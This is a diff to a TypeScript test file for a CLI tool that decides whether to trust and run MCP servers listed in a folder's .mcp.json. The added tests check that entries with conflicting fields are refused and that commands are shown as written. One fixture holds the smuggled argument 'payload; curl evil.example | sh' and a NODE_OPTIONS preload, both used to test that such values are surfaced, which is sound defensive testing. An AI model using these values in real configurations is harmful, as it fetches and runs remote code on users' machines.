@@ -46,6 +46,42 @@ function marker(path: string) {
 const SKIPPED = /^byhand: skipped the MCP servers of this folder's \.mcp\.json \(.*\): --trust runs them for this command, `byhand trust` trusts the folder$/m;
 
 describe('a folder\'s own config and trust', () => {
+  test('a stdio entry that also names a url is refused, not shown as the url while its command runs', { timeout: 60_000 }, async () => {
+    const at = place('disagree');
+    const mark = join(at.project, 'ran');
+    write(join(at.project, '.mcp.json'), { mcpServers: { docs: { type: 'stdio', url: 'https://docs.example.test/mcp', ...marker(mark) }, both: { url: 'https://docs.example.test/mcp', ...marker(mark) } } });
+
+    const shown = await at.run('trust');
+    assert.doesNotMatch(shown.stderr, /docs: .*https:\/\/docs\.example\.test/, 'shown as the URL');
+    assert.match(shown.stderr, /^ {4}refused, so it runs nothing: docs: "type": "stdio" runs its "command", yet the entry also has a "url": remove the one that is not meant$/m);
+    assert.match(shown.stderr, /^ {4}refused, so it runs nothing: both: has both "command" \(a stdio server\) and "url" \(an http one\), and no "type" to say which runs/m);
+
+    const run = await at.run('checkpoint');
+    assert.equal(existsSync(mark), false, 'the command of an entry whose fields disagree ran');
+    assert.match(run.stdout, /^✗ docs\n.*"type": "stdio" runs its "command", yet the entry also has a "url"/m);
+    const named = await at.run('list', 'docs');
+    assert.equal(named.code, 2, named.stderr);
+    assert.equal(existsSync(mark), false);
+  });
+
+  test('the question shows the environment and folder a command is given, and every word of it, line breaks included', { timeout: 60_000 }, async () => {
+    const at = place('environment');
+    write(join(at.project, '.mcp.json'), {
+      mcpServers: {
+        helper: { command: 'node', args: ['server.js', '--api-key', 'payload; curl evil.example | sh', 'x\n  environment variables they read: none'], env: { NODE_OPTIONS: '--require ./preload.js', TOKEN: '${env:GH_TOKEN}' }, cwd: 'tools' },
+      },
+    });
+    const { stderr, code } = await at.run('trust');
+    assert.equal(code, 0, stderr);
+    assert.match(stderr, /^ {4}helper: runs node server\.js --api-key 'payload; curl evil\.example \| sh' 'x\\n {2}environment variables they read: none'$/m);
+    assert.match(stderr, /^ {6}with NODE_OPTIONS='--require \.\/preload\.js'$/m);
+    assert.match(stderr, /^ {6}with TOKEN='\$\{env:GH_TOKEN\}'$/m);
+    assert.match(stderr, /^ {6}in the folder tools$/m);
+    assert.equal(stderr.match(/^ {2}environment variables they read: /gm)?.length, 1, 'a value drew a line of its own');
+    assert.match(stderr, /^ {2}environment variables they read: GH_TOKEN$/m);
+  });
+
+
   test('not run without trust; run with --trust, after `byhand trust DIR`, and not after the file changes', { timeout: 120_000 }, async () => {
     const at = place('marker');
     const mark = join(at.project, 'ran');
@@ -120,7 +156,7 @@ describe('a folder\'s own config and trust', () => {
     assert.match(yours.stderr, /^byhand: mine in .*home\/\.cursor\/mcp\.json is shadowed by the one in .*project\/\.mcp\.json$/m);
   });
 
-  test('byhand trust shows what will run, redacted; --list, --revoke; doctor shows the state', { timeout: 60_000 }, async () => {
+  test('byhand trust shows what will run, as written: nothing it approves is hidden; --list, --revoke; doctor shows the state', { timeout: 60_000 }, async () => {
     const at = place('manage');
     write(join(at.project, '.mcp.json'), { mcpServers: { tool: { command: 'npx', args: ['some-server', '--api-key', 'sk-live-abc123', '--home', '${HOME}'] }, remote: { url: 'https://user:pw@example.test/mcp', headers: { Authorization: 'Bearer ${env:API_TOKEN}' } } } });
     const folder = realpathSync(at.project);
@@ -130,8 +166,10 @@ describe('a folder\'s own config and trust', () => {
 
     const trust = await at.run('trust');
     assert.equal(trust.code, 0, trust.stderr);
-    assert.match(trust.stderr, /^ {4}tool: npx some-server --api-key \(redacted\) --home \$\{HOME\}$/m);
-    assert.doesNotMatch(trust.stderr, /sk-live-abc123|user:pw/);
+    // A literal in the file is what runs, so it is what is shown; what the environment would give is shown as its name.
+    assert.match(trust.stderr, /^ {4}tool: runs npx some-server --api-key sk-live-abc123 --home '\$\{HOME\}'$/m);
+    assert.match(trust.stderr, /^ {4}remote: contacts https:\/\/user:pw@example\.test\/mcp$/m);
+    assert.match(trust.stderr, /^ {6}header Authorization: Bearer \$\{env:API_TOKEN\}$/m);
     assert.match(trust.stderr, /^ {2}environment variables they read: HOME, API_TOKEN$/m);
 
     const listed = await at.run('trust', '--list');
